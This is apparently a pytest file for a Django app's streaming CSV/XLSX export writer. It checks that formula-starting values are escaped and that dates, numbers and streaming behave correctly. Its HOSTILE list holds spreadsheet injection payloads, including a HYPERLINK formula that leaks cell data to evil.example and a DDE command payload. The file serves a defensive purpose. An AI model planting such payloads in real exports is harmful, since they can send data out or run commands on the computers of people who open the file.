"""The streaming CSV/XLSX writer, read back with the csv module and openpyxl."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from training.dashboards.reports.spreadsheets import csv_stream, neutralise, xlsx_stream

# Names an attacker could give themselves in a roster, each one a formula in some spreadsheet.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Amira Haddad", "O'Brien", "Zoë 1+1", "", "a=b"]


def read_csv(chunks) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(chunks):
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(chunks))).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_neutralised_in_csv_and_xlsx(value):
    assert neutralise(value) == "'" + value
    assert read_csv(csv_stream(["Name"], [[value]]))[1] == ["'" + value]
    sheet, rows = read_xlsx(xlsx_stream(["Name"], [[value]]))
    assert rows[1] == ["'" + value]
    assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value
    assert read_csv(csv_stream(["Name"], [[value]]))[1] == [value]


def test_numbers_dates_and_booleans_keep_their_types_in_xlsx():
    moment = timezone.make_aware(datetime(2026, 3, 4, 15, 30))
    row = [-5, Decimal("87.50"), date(2026, 1, 31), moment, True, None, "x"]
    sheet, rows = read_xlsx(xlsx_stream(list("ABCDEFG"), [row], title="Odd: name/with [chars]"))
    assert rows[1] == [-5, 87.5, datetime(2026, 1, 31), timezone.localtime(moment).replace(tzinfo=None), True, None, "x"]
    assert sheet.title == "Odd  name with  chars"
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"


def test_csv_writes_readable_text_for_each_type():
    moment = timezone.make_aware(datetime(2026, 3, 4, 15, 30))
    rows = read_csv(csv_stream(["a", "b", "c", "d", "e"], [[-5, Decimal("87.50"), date(2026, 1, 31), moment, False]]))
    assert rows == [["a", "b", "c", "d", "e"], ["-5", "87.50", "2026-01-31", timezone.localtime(moment).strftime("%Y-%m-%d %H:%M"), "No"]]


def test_characters_xml_cannot_hold_are_dropped_not_fatal():
    _, rows = read_xlsx(xlsx_stream(["Name"], [["Bell\x07 and null\x00"]]))
    assert rows[1] == ["Bell and null"]


def test_rows_arrive_in_chunks_before_the_end():
    """Streaming: the writer hands over bytes while rows are still being produced."""
    produced = []

    def rows():
        for number in range(3000):
            produced.append(number)
            yield [f"row {number}", number]

    for stream in (csv_stream(["a", "b"], rows()), xlsx_stream(["a", "b"], rows())):
        produced.clear()
        first_chunks = [next(stream), next(stream)]
        assert sum(map(len, first_chunks)) > 0
        assert len(produced) < 3000
